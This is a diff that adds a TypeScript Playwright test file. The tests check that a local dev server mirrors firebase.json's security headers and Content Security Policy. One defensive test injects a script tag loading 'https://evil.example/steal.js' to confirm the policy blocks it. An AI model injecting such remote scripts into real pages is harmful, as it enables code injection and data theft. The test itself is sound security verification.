@@ -1,0 +1,86 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import type { HostingTarget } from '../scripts/deploy-config';
+import apps from '../scripts/apps.json';
+import { test, expect, appPort, portOffset } from './fixtures';
+
+/**
+ * The local server sends the security headers firebase.json sends, its CSP made for the local
+ * origins by the same code (scripts/serve.ts, scripts/deploy-config.ts): every browser test runs
+ * under the policy students get, and ends by expecting no violation (e2e/fixtures.ts).
+ */
+
+const committed = JSON.parse(fs.readFileSync(path.join(__dirname, '../firebase.json'), 'utf8')) as {
+  hosting: HostingTarget[];
+};
+
+/** The headers firebase.json sends on every file of an app, as a lower-cased map. */
+function productionHeaders(app: string): Record<string, string> {
+  const target = committed.hosting.find((candidate) => candidate.target === app)!;
+  const everyFile = target.headers.find((rule) => rule.source === '**')!;
+  return Object.fromEntries(everyFile.headers.map(({ key, value }) => [key.toLowerCase(), value]));
+}
+
+const directives = (csp: string) =>
+  Object.fromEntries(
+    csp.split('; ').map((directive) => {
+      const [name, ...sources] = directive.split(' ');
+      return [name!, sources];
+    }),
+  );
+/** A directive's sources that name no host: keywords, schemes and hashes. */
+const hostless = (sources: string[]) => sources.filter((source) => !/^[a-z]+:\/\//.test(source));
+
+for (const app of apps.apps) {
+  test(`${app.name} answers with firebase.json's security headers and a CSP for the local origins`, async () => {
+    const response = await fetch(`http://localhost:${appPort(app.name)}/`);
+    expect(response.status).toBe(200);
+    const production = productionHeaders(app.name);
+    for (const [key, value] of Object.entries(production)) {
+      if (key === 'cache-control' || key === 'content-security-policy') continue;
+      expect({ key, value: response.headers.get(key) }).toEqual({ key, value });
+    }
+
+    const local = directives(response.headers.get('content-security-policy')!);
+    const deployed = directives(production['content-security-policy']!);
+    // The same policy: the same directives with the same keywords, hashes and schemes ...
+    expect(Object.keys(local)).toEqual(Object.keys(deployed));
+    for (const name of Object.keys(deployed))
+      expect({ name, sources: hostless(local[name]!) }).toEqual({
+        name,
+        sources: hostless(deployed[name]!),
+      });
+    // ... naming the local site, its remotes and the emulator instead of the production hosts.
+    const database = `127.0.0.1:${9000 + portOffset}`;
+    for (const remote of ['exams', 'placements', 'blogs'])
+      expect(local['script-src']).toContain(`http://localhost:${appPort(remote)}`);
+    expect(local['connect-src']).toEqual(
+      expect.arrayContaining([`http://${database}`, `ws://${database}`]),
+    );
+    expect(local['script-src']!.join(' ')).not.toContain(database);
+    expect(local['worker-src']).toEqual(["'self'", 'blob:']);
+  });
+}
+
+test('a CSP violation on a page is caught by the check every browser test ends with', async ({
+  page,
+  cspViolations,
+}) => {
+  await page.goto('/');
+  await expect(page.getByRole('heading', { name: 'Question papers' })).toBeVisible();
+  expect(cspViolations).toEqual([]);
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/steal.js';
+    document.head.append(script);
+  });
+  // Seen twice: the document's violation event and the browser's console error.
+  await expect
+    .poll(() => cspViolations.join('\n'))
+    .toContain('script-src-elem blocked https://evil.example/steal.js on /');
+  await expect
+    .poll(() => cspViolations.join('\n'))
+    .toMatch(/'https:\/\/evil\.example\/steal\.js' violates the following Content Security Policy/);
+  // Caught as it should be; the fixture's own check would otherwise fail this test.
+  cspViolations.length = 0;
+});
